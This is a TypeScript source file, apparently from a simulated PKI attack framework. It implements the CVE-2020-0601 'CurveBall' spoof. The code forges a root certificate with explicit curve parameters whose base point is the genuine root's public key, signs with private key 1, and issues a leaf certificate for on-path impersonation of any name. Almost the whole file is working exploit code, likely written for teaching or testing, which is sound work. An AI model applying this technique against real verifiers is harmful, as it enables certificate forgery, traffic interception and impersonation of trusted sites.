import type { Bytes } from "../bytes/mod.ts";
import {
  bytesToInteger,
  ecdsaSignOn,
  generateEcKey,
  nistCurve,
  type WeierstrassCurve,
} from "../crypto/mod.ts";
import {
  ecdsaSignature,
  encodeTbs,
  explicitKeyInfo,
  extension,
  type Identity,
  issueCertificate,
  type IssueOptions,
  makeExtension,
  type Mistakes,
  parseCertificate,
  pointFrom,
  type Tools,
} from "../pki/mod.ts";
import { impersonate } from "./impersonate.ts";
import type { Attack } from "./position.ts";

/**
 * On-path impersonation with certificates under a root whose private key nobody has told her: she
 * describes another curve, on which the root's public key is the base point (CVE-2020-0601). There
 * the private key to it is 1.
 *
 * @param root the certificate of a root, DER, as everybody has it; its key is on P-256
 */
export function spoofCurve(root: Bytes): Attack {
  return (mallory) => {
    const { crypto, ambient: { random, now } } = mallory;
    const tools = { provider: crypto, random, clock: now };
    mallory.note(
      `${mallory.name} describes a curve whose base point is the root's public key: the private ` +
        "key to it is 1",
    );
    impersonate((name = "nobody.example") => spoofed(root, { names: [name] }, tools))(mallory);
  };
}

/**
 * A certificate, and a root that seems to be somebody else's: the same name, the same bytes for a
 * key, and a curve on which everybody can sign with it.
 *
 * @throws {TypeError} if the root's key is not on P-256
 */
export function spoofed(root: Bytes, options: IssueOptions, tools: Tools): Identity {
  const read = parseCertificate(root);
  const genuine = read.ok ? read.value : undefined;
  const publicKey = genuine?.publicKey;
  const point = publicKey?.type === "ec" && publicKey.curve === "P-256"
    ? pointFrom(publicKey.point)
    : undefined;
  if (genuine === undefined || publicKey === undefined || point === undefined) {
    throw new TypeError("Cannot take the place of this root: its key is not on P-256");
  }
  const { provider, random } = tools;
  const curve = { ...nistCurve("P-256"), base: point };
  const info = explicitKeyInfo({ curve, point });
  const key = generateEcKey(provider, "P-256", random, "key for a spoofed certificate");
  // The name and the identifier of the key are the genuine root's.
  const { subject } = genuine;
  const above = issueCertificate(
    publicKey,
    { selfSignedWith: key },
    { ca: true, subject },
    tools,
    signedOn(curve, tools, (tbs) => ({ ...tbs, subjectPublicKeyInfo: info })),
  );
  const keyIdentifier = extension(genuine, "subjectKeyIdentifier")?.value;
  const leaf = issueCertificate(
    key.publicKey,
    { name: subject, key },
    {
      ...options,
      extensions: [makeExtension("authorityKeyIdentifier", {
        keyIdentifier,
        authorityCertIssuer: undefined,
        authorityCertSerialNumber: undefined,
      })],
    },
    tools,
    signedOn(curve, tools),
  );
  return { chain: [leaf, above], key };
}

/** Has a certificate signed with 1, on that curve, in place of the key that it was issued with. */
function signedOn(
  curve: WeierstrassCurve,
  { provider, random }: Tools,
  change: NonNullable<Mistakes["edit"]> = (tbs) => tbs,
): Mistakes {
  let digest: Bytes;
  return {
    edit(tbs) {
      const changed = change(tbs);
      digest = provider.hash("SHA-256").digest(encodeTbs(changed));
      return changed;
    },
    editSignature() {
      const nonce = bytesToInteger(random.bytes("nonce on the spoofed curve", 31));
      return ecdsaSignature(ecdsaSignOn(curve, 1n, digest, nonce));
    },
  };
}
